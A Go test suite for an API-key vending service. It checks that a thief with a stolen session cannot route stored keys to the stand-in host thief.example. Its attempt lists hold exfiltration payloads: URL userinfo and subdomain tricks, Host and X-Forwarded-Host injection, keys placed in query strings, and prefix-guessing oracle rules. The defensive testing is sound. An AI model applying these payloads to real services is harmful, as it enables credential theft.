package api_test

import (
	"cmp"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"keyvend/pkg/api/apitest"
	"keyvend/pkg/boot/boottest"
	"keyvend/pkg/catalog"
	"keyvend/pkg/health"
)

// homes are integrations with where a key that is stored in each may be sent; ""
// is nowhere. Those that are no catalog's are defined as below.
var homes = map[string]string{
	"openai":  "api.openai.com",
	"grafana": "acme.grafana.net", // the account's setting is the host
	"own":     "api.acme.example",
	"sited":   "eu.acme.example", // the setting is a part of the host
	"plain":   "",                // has no check
	"hosted":  "",                // has none either; the product's backend sends the key to the setting
}

// settings are what the keys are stored with.
var settings = map[string]string{"grafana": `{"domain":"acme.grafana.net"}`, "sited": `{"site":"eu"}`, "hosted": `{"host":"good.example.com","path":"v1"}`}

const (
	atHome     = `{"placement":{"in":"header","name":"Authorization","template":"Bearer {key}"},"method":"GET","url":"https://api.acme.example/me","valid":[200],"invalid":[401]}`
	siteField  = `{"field":"site","label":"Site","description":"Where.","required":false,"default":"us","options":[{"value":"us","label":"US"},{"value":"eu","label":"EU"}]}`
	hostFields = `{"field":"host","label":"Host","description":"Yours.","required":true,"example":"a.example.com","format":"hostname"},
		{"field":"path","label":"Path","description":"There.","required":false,"example":"v1","shapes":[{"parts":[{"alphabet":"visible","min_length":1,"max_length":200}]}]}`
)

// loot is a tenant with a key of anna's at each of the homes.
type loot struct {
	acme
	accounts map[string]string // ids by slug
}

// secretOf is anna's key at a home: what follows the slug is nobody else's.
func secretOf(slug string) string { return boottest.Canary + slug + "-" + tailOf(slug) }

func tailOf(slug string) string {
	sum := sha256.Sum256([]byte(slug))
	return hex.EncodeToString(sum[:])[:16]
}

func newLoot(t *testing.T) loot {
	t.Helper()
	w := boottest.New(t, boottest.Config{})
	l := loot{acme{World: w, tenant: w.Tenant()}, map[string]string{}}
	l.token = w.Key(l.tenant, "vend", "manage")
	for _, slug := range []string{"openai", "grafana"} {
		l.Register(l.token, slug)
	}
	for slug, definition := range map[string]string{
		"own":    `{"check":` + atHome + `}`,
		"sited":  `{"config_fields":[` + siteField + `],"check":` + strings.Replace(atHome, "api.", "{site}.", 1) + `}`,
		"plain":  `{}`,
		"hosted": `{"config_fields":[` + hostFields + `]}`,
	} {
		l.Must(http.StatusCreated, l.token, "POST", "/data-integrations", `{"provider":"`+slug+`","enabled":true,"auth_methods":["api_key"],"custom_provider":{"name":"`+slug+`"}}`)
		l.Must(http.StatusOK, l.token, "PATCH", "/keyvend/integrations/"+slug, definition)
	}
	for slug := range homes {
		l.store(slug)
	}
	l.Providers.Answer(func(ask catalog.Ask) (health.Answer, error) {
		l.watch(t, ask)
		return boottest.Says(http.StatusOK, `{}`), nil
	})
	return l
}

// store stores anna's key of a slug, with the settings that it has to have.
func (l loot) store(slug string) {
	config := cmp.Or(settings[slug], "null")
	l.accounts[slug] = l.Must(http.StatusOK, l.token, "PUT", "/data-integrations/"+slug+"/api-key",
		`{"user_id":"anna","secret":"`+secretOf(slug)+`","config":`+config+`}`).Text("id")
}

// watch fails the test if a request to a provider carries a stored key, in any
// part, to anywhere but its home.
func (l loot) watch(t *testing.T, ask catalog.Ask) {
	sent := ask.Body + string(ask.URL.Reveal())
	for name, value := range ask.Header {
		sent += name + string(value.Reveal())
		if strings.EqualFold(name, "host") {
			t.Errorf("a check says that it is for the host %s", value.Reveal())
		}
	}
	for slug, home := range homes {
		carries := strings.Contains(sent, base64.StdEncoding.EncodeToString([]byte(secretOf(slug))))
		for tail := tailOf(slug); len(tail) >= 6; tail = tail[1:] {
			carries = carries || strings.Contains(sent, tail[:6])
		}
		if carries && (ask.Host != home || !strings.HasPrefix(string(ask.URL.Reveal()), "https://"+home+"/")) {
			t.Errorf("the key of %s goes to %s", slug, ask.URL.Reveal())
		}
	}
}

// thief is a host of the thief's.
const thief = "thief.example"

// attempts are what a thief sends: whatever could name his host, raise his rights,
// or have a key looked at, sent or shown.
func attempts() []string {
	theirs := strings.ReplaceAll(atHome, "api.acme.example", thief)
	text := strings.NewReplacer("'", `"`)
	all := []string{
		``, `{}`,
		// Rights.
		`{'name':'mine','scopes':['vend']}`, `{'name':'mine','scopes':['manage','vend']}`, `{'name':'mine','scopes':['manage','widget','read']}`,
		`{'user_id':'anna'}`, `{'user_id':'anna','organization_id':'org','scopes':['widgets:pipes:manage']}`,
		`{'allowed_origins':['https://thief.example'],'sessions_not_before':'2020-01-01T00:00:00Z'}`,
		// Where checks go.
		`{'check':` + theirs + `}`,
		`{'check':` + strings.Replace(atHome, `"url":"https://api.acme.example/me"`, `"url":"https://api.acme.example@thief.example/me"`, 1) + `}`,
		`{'check':` + strings.Replace(atHome, "https://api.acme.example/me", "https://api.acme.example.thief.example/me", 1) + `}`,
		`{'check':` + strings.Replace(atHome, `"method"`, `"headers":{"Host":"thief.example"},"method"`, 1) + `}`,
		`{'check':` + strings.Replace(atHome, `"method"`, `"headers":{"X-Forwarded-Host":"thief.example"},"method"`, 1) + `}`,
		`{'check':` + strings.Replace(atHome, `"GET","url":"https://api.acme.example/me"`, `"POST","body":"{key}","url":"https://api.acme.example/hook?to=https://thief.example"`, 1) + `}`,
		`{'check':` + strings.Replace(atHome, `"header","name":"Authorization","template":"Bearer {key}"`, `"query","name":"to","template":"{key}"`, 1) + `}`,
		`{'config_fields':[` + strings.ReplaceAll(siteField, `"us"`, `"thief"`) + `]}`,
		`{'config_fields':[{'field':'site','label':'Site','description':'Where.','required':false,'default':'thief.example','example':'a.example','format':'hostname'}],'check':` + strings.Replace(theirs, thief, "{site}", 1) + `}`,
		`{'verify_on_save':'require','on_invalid':'advise','check_interval':'15m'}`,
		// What a check says of a key by being made, or by the rules that read its answer.
		`{'config_fields':[` + derived("own-", "0") + `],'check':` + strings.Replace(atHome, `"method"`, `"headers":{"X-Part":"{part}"},"method"`, 1) + `}`,
		`{'config_fields':[` + derived("-", "0") + `],'check':` + strings.Replace(atHome, "/me", "/me/{part}?q={part}", 1) + `}`,
		`{'config_fields':[` + derived("-", "0") + `],'check':` + strings.Replace(atHome, "api.acme.example", "{part}.acme.example", 1) + `}`,
		`{'check':` + strings.Replace(atHome, `"valid"`, `"when":[{"status":200,"all":[{"path":"authorization","starts_with":"Bearer sk-"}],"verdict":"limited"}],"valid"`, 1) + `}`,
		`{'config':{'host':'thief.example','path':'v1'}}`, `{'config':{'host':'good.example.com','path':'.thief.example'}}`, `{'config':{'path':'@thief.example'}}`,
		`{'config_fields':[` + strings.ReplaceAll(hostFields, `,"format":"hostname"`, "") + `]}`, `{'config':{'host':'thief.example','path':'v1'}}`, // the host no hostname any more
		`{'config':{'domain':'thief.example','site':'us'},'metadata':{'a':'b'}}`, `{'config':{'site':'us'}}`, `{'config':{}}`,
		`{'state':'connected'}`, `{'enabled':true,'custom_provider':{'name':'Trust me'},'description':'Paste your key.'}`,
		// Keys of his own, beside those that are there.
		`{'user_id':'mallory','secret':'walked-0123456789','config':{'domain':'thief.example'}}`, `{'user_id':'mallory','secret':'walked-0123456789'}`,
		`{'api_key':{'user_id':'mallory','secret':'walked-0123456789','config':{'site':'us'}}}`,
		// Keys that are looked at.
		`{'slug':'own','user_id':'anna','status':401}`, `{'user_id':'anna','slug':'own'}`,
		// Another registration in the place of one.
		`{'provider':'own','auth_methods':['api_key'],'enabled':true,'custom_provider':{'name':'own'}}`,
		`{'reason':'because'}`,
	}
	for i := range all {
		all[i] = text.Replace(all[i])
	}
	return all
}

// derived is a setting that the key itself would hold, if what follows a mark in it
// begins with a guess.
func derived(mark, guess string) string {
	return `{"field":"part","label":"Part","description":"Of the key.","required":false,"example":"` + guess + `a","derive_from_key":{"after_last":"` + mark + `"},
		"shapes":[{"parts":[{"text":"` + guess + `"},{"alphabet":"lower_alphanumeric"}]}]}`
}

// places are the addresses of an operation, with every value that its variables
// could have to do with a stored key.
func (l loot) places(path string) []string {
	places := []string{strings.NewReplacer("{user_id}", "anna", "{organization_id}", "org", "{api_key_id}", keyIDOf(l.token)).Replace(path)}
	for variable, values := range map[string][]string{
		"{slug}":       slices.Sorted(maps.Keys(homes)),
		"{account_id}": slices.Sorted(maps.Values(l.accounts)),
	} {
		var next []string
		for _, place := range places {
			if !strings.Contains(place, variable) {
				next = append(next, place)
				continue
			}
			for _, value := range values {
				next = append(next, strings.Replace(place, variable, value, 1))
			}
		}
		places = next
	}
	return places
}

// rob sends every attempt to every route of the description, and returns what
// tokens that gave. What deletes comes in a later act.
func (l loot) rob(t *testing.T, token string) (given []string) {
	t.Helper()
	description, err := apitest.Served()
	if err != nil {
		t.Fatal(err)
	}
	for _, op := range description.Operations() {
		// What is frozen is vended to nobody; a key that its user's widget replaces is
		// not stolen.
		if op.Method == "DELETE" || strings.HasSuffix(op.Path, "/freeze") || op.String() == "PUT /_widgets/DataIntegrations/{slug}/api-key" {
			continue
		}
		// A token of the wrong kind is refused whatever it brings.
		bodies := attempts()
		if strings.HasPrefix(op.Path, "/_widgets/") != strings.HasPrefix(l.kind(t, token), widgets) {
			bodies = []string{`{"user_id":"anna","slug":"own"}`}
		}
		for _, place := range l.places(op.Path) {
			for _, body := range bodies {
				got := l.Do(token, op.Method, place, body)
				if got.Status < 300 && needed(op.Method, place) == "vend" {
					t.Errorf("%s %s %s: %d", op.Method, place, body, got.Status)
				}
				if got.Text("token") != "" {
					given = append(given, got.Text("token"))
				}
				if op.Method == "GET" {
					break
				}
				l.Check()
			}
		}
	}
	return given
}

// days lets what is due on schedule be done.
func (l loot) days(t *testing.T) {
	t.Helper()
	for range 3 {
		l.Clock.Pass(25 * time.Hour)
		if _, err := l.App.Sweep(t.Context(), nil); err != nil {
			t.Error(err)
		}
		l.Check()
	}
}

// widgets is what the kinds of widget tokens begin with.
const widgets = "widget"

// kind tells tokens apart that can do different things.
func (l loot) kind(t *testing.T, token string) string {
	if strings.HasPrefix(token, "sk_kv_") {
		return fmt.Sprint(l.Row(boottest.APIKeyRow(l.tenant, keyIDOf(token)))["scopes"])
	}
	if claims := claimed(t, token); claims["sub"] != nil {
		return fmt.Sprint(widgets, claims["permissions"])
	}
	return "session"
}

func TestF60_F61_AStolenDashboardSessionComesByNoStoredKeyInAnyNumberOfSteps(t *testing.T) {
	l := newLoot(t)
	l.Site = "same-origin"
	known := map[string]bool{}
	tokens := []string{l.Session(l.Key(l.tenant, "manage"))}
	for len(tokens) > 0 {
		token := tokens[0]
		tokens = tokens[1:]
		if known[l.kind(t, token)] {
			continue
		}
		known[l.kind(t, token)] = true
		tokens = append(tokens, l.rob(t, token)...)
	}
	if len(known) < 4 { // the session, API keys, widget tokens without and with a permission
		t.Errorf("the thief came by tokens of %d kinds only: %v", len(known), known)
	}
	l.days(t)
	asked := len(l.Providers.Asked())
	if asked == 0 {
		t.Error("no provider was asked: this test sees nothing")
	}
	for slug := range homes {
		l.vendsAsStored(t, slug)
	}

	// Keys that are brought later go nowhere else either, where a check was there
	// before.
	for _, slug := range []string{"openai", "grafana", "own", "sited"} {
		l.store(slug)
		l.days(t)
	}
	if len(l.Providers.Asked()) == asked {
		t.Error("nobody was asked about keys that were brought later")
	}

	// Nor do those that were stored before there was a check, or under another
	// registration.
	thiefs := l.Session(l.Key(l.tenant, "manage"))
	l.Do(thiefs, "DELETE", "/data-integrations/own", "")
	l.Must(http.StatusCreated, thiefs, "POST", "/data-integrations", `{"provider":"own","enabled":true,"auth_methods":["api_key"],"custom_provider":{"name":"own"}}`)
	for _, slug := range []string{"own", "plain"} {
		l.Do(thiefs, "PATCH", "/keyvend/integrations/"+slug, `{"check":`+strings.ReplaceAll(atHome, "api.acme.example", thief)+`}`)
		l.Do(thiefs, "POST", "/keyvend/accounts/"+l.accounts[slug]+"/check", "")
		l.Do(l.token, "POST", "/keyvend/reports", `{"slug":"`+slug+`","user_id":"anna","status":401}`)
		l.Check()
	}
	l.days(t)
}

// vendsAsStored fails the test if anna's key of a slug is vended beside anything but
// what it was stored with.
func (l loot) vendsAsStored(t *testing.T, slug string) {
	t.Helper()
	var vended struct {
		Credential struct {
			Value  string
			Config map[string]string
		}
	}
	got := l.Vend(l.token, slug, "anna")
	if err := json.Unmarshal([]byte(got.Body), &vended); err != nil {
		t.Fatal(err)
	}
	want := map[string]string{}
	if settings[slug] != "" {
		if err := json.Unmarshal([]byte(settings[slug]), &want); err != nil {
			t.Fatal(err)
		}
	}
	if vended.Credential.Value != secretOf(slug) || !maps.Equal(vended.Credential.Config, want) {
		t.Errorf("%s is vended with %v", slug, vended.Credential.Config)
	}
}

// A thief stores a key of his own in anna's accounts, with his host beside it. When he
// has been thrown out, anna and her product's backend bring hers as ever.
func TestF60_F61_NobodysKeyGoesWhereAThiefsKeyWasStoredWith(t *testing.T) {
	plants := map[string]func(l loot, session, slug, config string) boottest.Answer{
		"session": func(l loot, session, slug, config string) boottest.Answer {
			return l.Do(session, "PUT", "/data-integrations/"+slug+"/api-key", `{"user_id":"anna","secret":"walked-0123456789","config":`+config+`}`)
		},
		"session, inline": func(l loot, session, slug, config string) boottest.Answer {
			return l.Do(session, "PUT", "/data-integrations/"+slug, `{"api_key":{"user_id":"anna","secret":"walked-0123456789","config":`+config+`}}`)
		},
		"an API key of the session's": func(l loot, session, slug, config string) boottest.Answer {
			issued := l.Must(http.StatusCreated, session, "POST", "/keyvend/api_keys", `{"name":"mine","scopes":["manage"]}`).Text("token")
			return l.Do(issued, "PUT", "/data-integrations/"+slug+"/api-key", `{"user_id":"anna","secret":"walked-0123456789","config":`+config+`}`)
		},
		"a widget token of the session's": func(l loot, session, slug, config string) boottest.Answer {
			return l.Do(l.WidgetToken(session, "anna", ""), "PUT", "/_widgets/DataIntegrations/"+slug+"/api-key", `{"secret":"walked-0123456789","config":`+config+`}`)
		},
	}
	brings := map[string]func(l loot, slug, config string) boottest.Answer{
		"the widget": func(l loot, slug, config string) boottest.Answer {
			return l.Do(l.WidgetToken(l.token, "anna", ""), "PUT", "/_widgets/DataIntegrations/"+slug+"/api-key", `{"secret":"`+secretOf(slug)+`"`+config+`}`)
		},
		"a backend": func(l loot, slug, config string) boottest.Answer {
			return l.Do(l.token, "PUT", "/data-integrations/"+slug+"/api-key", `{"user_id":"anna","secret":"`+secretOf(slug)+`"`+config+`}`)
		},
		"a backend, inline": func(l loot, slug, config string) boottest.Answer {
			return l.Do(l.token, "PUT", "/data-integrations/"+slug, `{"api_key":{"user_id":"anna","secret":"`+secretOf(slug)+`"`+config+`}}`)
		},
	}
	thiefs := map[string]string{
		"grafana": `{"domain":"thief.example"}`, "sited": `{"site":"thief"}`, "hosted": `{"host":"thief.example"}`,
	}
	for planting, plant := range plants {
		for bringing, bring := range brings {
			t.Run(planting+", "+bringing, func(t *testing.T) {
				l := newLoot(t)
				l.Site = "same-origin"
				session := l.Session(l.Key(l.tenant, "manage"))
				l.Must(http.StatusOK, session, "PATCH", "/keyvend/integrations/sited", `{"config_fields":[`+strings.Replace(siteField, `"label":"EU"}]`, `"label":"EU"},{"value":"thief","label":"Europe"}]`, 1)+`]}`)
				for slug, config := range thiefs {
					l.Must(http.StatusNoContent, l.token, "DELETE", "/user_management/users/anna/connected_accounts/"+slug, "")
					if got := plant(l, session, slug, config); got.Status != http.StatusOK {
						t.Fatalf("%s: %d %s", slug, got.Status, got.Body)
					}
				}
				l.Must(http.StatusNoContent, session, "DELETE", "/keyvend/sessions", "")
				l.Must(http.StatusOK, l.token, "PATCH", "/keyvend/integrations/sited", `{"config_fields":[`+siteField+`]}`) // as SECURITY.md says
				l.Clock.Pass(time.Minute)
				if got := l.Do(l.WidgetToken(l.token, "anna", ""), "GET", offers, ""); got.Status != http.StatusOK || strings.Contains(got.Body, "thief") {
					t.Errorf("a form begins with what is the thief's: %d %s", got.Status, got.Body)
				}
				for slug := range thiefs {
					got := bring(l, slug, "")
					if got.Status != http.StatusUnprocessableEntity || !strings.Contains(got.Body, "bring it along with the key") || strings.Contains(got.Body, "thief") {
						t.Errorf("%s: %d %s", slug, got.Status, got.Body)
					}
					l.days(t)
					if strings.Contains(l.Vend(l.token, slug, "anna").Body, secretOf(slug)) {
						t.Errorf("%s: anna's key is vended with what is the thief's", slug)
					}
					if got := bring(l, slug, `,"config":`+settings[slug]); got.Status != http.StatusOK {
						t.Errorf("%s: %d %s", slug, got.Status, got.Body)
					}
					l.days(t)
				}
			})
		}
	}
}

// Nobody can send a setting that the definition has no more.
func TestASettingThatIsNoLongerDeclaredKeepsNoKeyFromBeingReplaced(t *testing.T) {
	l := newLoot(t)
	manager := l.Key(l.tenant, "manage")
	l.Must(http.StatusOK, manager, "PUT", "/data-integrations/hosted/api-key", `{"user_id":"bo","secret":"`+secretOf("hosted")+`","config":`+settings["hosted"]+`}`)
	l.Must(http.StatusOK, manager, "PATCH", "/keyvend/integrations/hosted", `{"config_fields":[]}`)
	l.Must(http.StatusOK, manager, "PUT", "/data-integrations/hosted/api-key", `{"user_id":"bo","secret":"`+secretOf("hosted")+`2"}`)
	if got := l.Vend(l.token, "hosted", "bo"); !strings.Contains(got.Body, secretOf("hosted")+"2") || strings.Contains(got.Body, "good.example.com") {
		t.Errorf("%s", got.Body)
	}
}

// What leads to nobody but the provider goes on with any key, and all of it when it was
// given by who may read keys.
func TestSettingsGoOnWithTheNextKeyWhereNobodyCanStealItByThem(t *testing.T) {
	l := newLoot(t)
	l.Site = "same-origin"
	l.Register(l.token, "mailgun")
	manager := l.Key(l.tenant, "manage")
	l.Must(http.StatusNoContent, l.token, "DELETE", "/user_management/users/anna/connected_accounts/sited", "")
	const eu = `{"api_host":"api.eu.mailgun.net"}`
	for name, put := range map[string]func(slug, rest string) boottest.Answer{
		"a key that vends": func(slug, rest string) boottest.Answer {
			return l.Do(l.token, "PUT", "/data-integrations/"+slug+"/api-key", `{"user_id":"anna","secret":"`+secretOf(slug)+`"`+rest+`}`)
		},
		"a key that does not": func(slug, rest string) boottest.Answer {
			return l.Do(manager, "PUT", "/data-integrations/"+slug+"/api-key", `{"user_id":"anna","secret":"`+secretOf(slug)+`"`+rest+`}`)
		},
		"the widget": func(slug, rest string) boottest.Answer {
			return l.Do(l.WidgetToken(l.token, "anna", ""), "PUT", "/_widgets/DataIntegrations/"+slug+"/api-key", `{"secret":"`+secretOf(slug)+`"`+rest+`}`)
		},
	} {
		for range 2 {
			if got := put("mailgun", `,"config":`+eu); got.Status != http.StatusOK {
				t.Errorf("%s: %d %s", name, got.Status, got.Body)
			}
			for range 2 {
				if got := put("mailgun", ""); got.Status != http.StatusOK || l.Vend(l.token, "mailgun", "anna").Text("credential.config.api_host") != "api.eu.mailgun.net" {
					t.Errorf("%s: %d %s", name, got.Status, got.Body)
				}
			}
			if got := put("sited", `,"config":`+settings["sited"]); got.Status != http.StatusOK {
				t.Errorf("%s: %d %s", name, got.Status, got.Body)
			}
			if got := put("sited", ""); got.Status != http.StatusOK {
				t.Errorf("%s: %d %s", name, got.Status, got.Body)
			}
			l.vendsAsStored(t, "sited")
			if got := l.Do(l.WidgetToken(l.token, "anna", ""), "GET", offers, ""); !strings.Contains(got.Body, `"site":"eu"`) {
				t.Errorf("the form begins without the user's region: %s", got.Body)
			}
			l.store("grafana")
			for range 2 {
				if got := put("grafana", ""); got.Status != http.StatusOK {
					t.Errorf("%s: %d %s", name, got.Status, got.Body)
				}
				l.vendsAsStored(t, "grafana")
			}
		}
	}
}

func TestF61_WhoGaveSettingsIsNotChangedInTheTable(t *testing.T) {
	l := newLoot(t)
	l.Must(http.StatusOK, l.Key(l.tenant, "manage"), "PUT", "/data-integrations/grafana/api-key", `{"user_id":"anna","secret":"walked-0123456789","config":{"domain":"thief.example"}}`)
	l.Edit(boottest.AccountRow(l.tenant, "anna", "grafana", ""), func(r boottest.Row) { r["config_by_reader"] = true })
	if got := l.Do(l.token, "PUT", "/data-integrations/grafana/api-key", `{"user_id":"anna","secret":"`+secretOf("grafana")+`"}`); got.Status >= 500 {
		t.Errorf("%d %s", got.Status, got.Body)
	}
	if got := l.Vend(l.token, "grafana", "anna").Text("credential.config.domain"); got != "" {
		t.Errorf("vended with %s", got)
	}
	l.days(t)
}

// What stands beside a stored key is for its backend to go by.
func TestF60_SettingsOfAStoredKeyChangeForNobodyWhoMayNotReadIt(t *testing.T) {
	l := newLoot(t)
	manager := l.Key(l.tenant, "manage")
	path := "/keyvend/accounts/" + l.accounts["hosted"]
	for name, c := range map[string]struct {
		token, config string
		status        int
	}{
		"session, host":             {l.Session(manager), `{"host":"thief.example","path":"v1"}`, 422},
		"session, path":             {l.Session(manager), `{"host":"good.example.com","path":"v2"}`, 422},
		"session, nothing":          {l.Session(manager), settings["hosted"], 200},
		"a key that does not vend":  {manager, `{"host":"good.example.com","path":"v2"}`, 422},
		"a key that vends, host":    {l.token, `{"host":"thief.example","path":"v1"}`, 422},
		"a key that vends, no host": {l.token, `{"path":"v1"}`, 422},
		"a key that vends, nothing": {l.token, settings["hosted"], 200},
	} {
		got := l.Do(c.token, "PATCH", path, `{"config":`+c.config+`}`)
		if got.Status != c.status || c.status == 422 && !strings.Contains(got.Body, "bound_to_secret") {
			t.Errorf("%s: %d %s", name, got.Status, got.Body)
		}
		l.vendsAsStored(t, "hosted")
	}
	l.Must(http.StatusOK, l.token, "PATCH", path, `{"config":{"host":"good.example.com","path":"v2"}}`)
	if got := l.Vend(l.token, "hosted", "anna").Text("credential.config.path"); got != "v2" {
		t.Errorf("the path is %s", got)
	}
}

func TestF60_WhoChangesACheckReadsNoKeyOutOfItsVerdicts(t *testing.T) {
	l := newLoot(t)
	session := l.Session(l.Key(l.tenant, "manage"))
	l.Providers.Answer(func(ask catalog.Ask) (health.Answer, error) { // of a host that tells what it is sent
		return boottest.Says(http.StatusOK, `{"headers":{"authorization":"`+string(ask.Header["Authorization"].Reveal())+`"}}`), nil
	})
	guess := func(beginning string) string {
		l.Must(http.StatusOK, session, "PATCH", "/keyvend/integrations/own", `{"check":{"placement":{"in":"header","name":"Authorization","template":"Bearer {key}"},"method":"GET","url":"https://api.acme.example/echo","valid":[201],"limited":[200],"invalid":[401],
			"when":[{"status":200,"all":[{"path":"headers.authorization","starts_with":"Bearer `+beginning+`"}],"verdict":"valid"}]}}`)
		l.Clock.Pass(10 * time.Minute)
		l.Must(http.StatusAccepted, session, "POST", "/keyvend/accounts/"+l.accounts["own"]+"/check", "")
		l.Check()
		return l.Must(http.StatusOK, session, "GET", "/keyvend/accounts/"+l.accounts["own"], "").Text("health.verdict")
	}
	right, wrong := guess("sk-"), guess("pk-")
	if right != wrong || right == "unknown" {
		t.Errorf("the right beginning is %s, the wrong one %s", right, wrong)
	}
}

// Two keys of one length that agree in no character but their beginning.
const (
	oneKey   = boottest.Canary + "ab12cd34ef56ab12"
	otherKey = boottest.Canary + "zy98xw76vu54zy98"
)

// said is what a session can see of a key by its checks, without times: of when the
// next look is due it says how soon, since a part of that is left to chance.
func (l loot) said(session, id string) string {
	got := l.Must(http.StatusOK, session, "GET", "/keyvend/accounts/"+id, "")
	var history struct {
		Data []struct{ Verdict, Reason, Sentence, Cause string }
	}
	text := l.Must(http.StatusOK, session, "GET", "/keyvend/accounts/"+id+"/history", "").Body
	if err := json.Unmarshal([]byte(text), &history); err != nil {
		return err.Error()
	}
	next := "never"
	if due, err := time.Parse(time.RFC3339, got.Text("health.next_check_at")); err == nil {
		next = fmt.Sprint("within the hour: ", due.Before(l.Clock.Now().Add(time.Hour)))
	}
	return fmt.Sprint(got.Text("state"), " ", got.Text("health.verdict"), " ", got.Text("health.reason"), " ", got.Text("health.consecutive_unknowns"), " ", next, " ", history)
}

// guesses are definitions that tell two keys apart if a part of a key decides what
// a check is, or what is thought of its answer.
func guesses() []string {
	var all []string
	fields := []string{
		derived("canary-", "ab"), derived("canary-", "zy98"), derived("b", "12"), derived("-", "a"),
		strings.Replace(derived("canary-", "ab"), `"example"`, `"default":"abc","example"`, 1),
		strings.Replace(derived("canary-", "ab"), `{"text":"ab"}`, `{"one_of":["ab","cd"]}`, 1),
		`{"field":"part","label":"Part","description":"Of the key.","required":false,"options":[{"value":"12","label":"A"},{"value":"ab12cd34ef56ab12","label":"B"}],"derive_from_key":{"after_last":"canary-"}}`,
		`{"field":"part","label":"Part","description":"Of the key.","required":false,"default":"api.example","example":"api.example","format":"hostname","derive_from_key":{"after_last":"canary-"}}`,
		`{"field":"part","label":"Part","description":"No part of it.","required":false,"default":"ab12","example":"ab12","shapes":[{"parts":[{"text":"ab"},{"alphabet":"visible"}]}]}`,
		`{"field":"part","label":"Part","description":"No part of it.","required":false,"example":"ab12","shapes":[{"parts":[{"text":"ab"},{"alphabet":"visible"}]}]}`,
	}
	places := []string{
		atHome,
		strings.Replace(atHome, `"method"`, `"headers":{"X-Part":"{part}"},"method"`, 1),
		strings.Replace(atHome, "/me", "/{part}", 1),
		strings.Replace(atHome, "/me", "/me?q={part}", 1),
		strings.Replace(atHome, "Bearer {key}", "Bearer {part}{key}", 1),
		strings.Replace(atHome, "api.", "{part}.", 1),
		strings.Replace(atHome, "/me", "/whole", 1),
	}
	rules := []string{
		"",
		`"when":[{"status":200,"all":[{"path":"sent","starts_with":"https://api.acme.example/me?q=ab"}],"verdict":"limited"},{"status":200,"all":[{"path":"header.X-Part","starts_with":"zy"}],"verdict":"limited"}],`,
		`"when":[{"status":200,"all":[{"path":"header.Authorization","starts_with":"Bearer ` + oneKey[:3] + `"},{"path":"header.Authorization","exists":true}],"verdict":"limited"}],`,
	}
	for _, field := range fields {
		for _, place := range places {
			for _, rule := range rules {
				all = append(all, `{"config_fields":[`+field+`],"check":`+strings.Replace(place, `"valid"`, rule+`"valid"`, 1)+`}`)
			}
		}
	}
	return all
}

func TestF60_NoDefinitionTellsTwoKeysApart(t *testing.T) {
	l := newLoot(t)
	manager := l.Key(l.tenant, "manage")
	ids := make([]string, 2)
	for i, key := range []string{oneKey, otherKey} {
		ids[i] = l.Must(http.StatusOK, l.token, "PUT", "/data-integrations/own/api-key", fmt.Sprintf(`{"user_id":"user-%d","secret":"%s"}`, i, key)).Text("id")
	}
	// A host that repeats what it is sent, the key itself where it is asked for /whole.
	l.Providers.Answer(func(ask catalog.Ask) (health.Answer, error) {
		whole := strings.HasSuffix(string(ask.URL.Reveal()), "/whole")
		header := map[string]string{}
		for name, value := range ask.Header {
			if whole || name != "Authorization" {
				header[name] = string(value.Reveal())
			}
		}
		text, err := json.Marshal(map[string]any{"sent": string(ask.URL.Reveal()), "header": header})
		return boottest.Says(http.StatusOK, string(text)), err
	})
	taken, verdicts := 0, map[string]bool{}
	for _, definition := range guesses() {
		session := l.Session(manager) // none lasts
		if l.Do(session, "PATCH", "/keyvend/integrations/own", definition).Status == http.StatusOK {
			taken++
		}
		for range 2 { // the second look confirms a refusal
			l.Clock.Pass(10 * time.Minute)
			for _, id := range ids {
				l.Must(http.StatusAccepted, session, "POST", "/keyvend/accounts/"+id+"/check", "")
			}
			l.Check()
			l.Clock.Pass(10 * time.Minute)
			l.Check()
		}
		one, other := l.said(session, ids[0]), l.said(session, ids[1])
		if one != other {
			t.Fatalf("after %s\none key:   %s\nthe other: %s", definition, one, other)
		}
		verdicts[strings.Fields(one)[1]] = true
	}
	if taken == 0 || len(verdicts) < 2 {
		t.Errorf("%d definitions were taken, and made for the verdicts %v: this test sees little", taken, verdicts)
	}
}
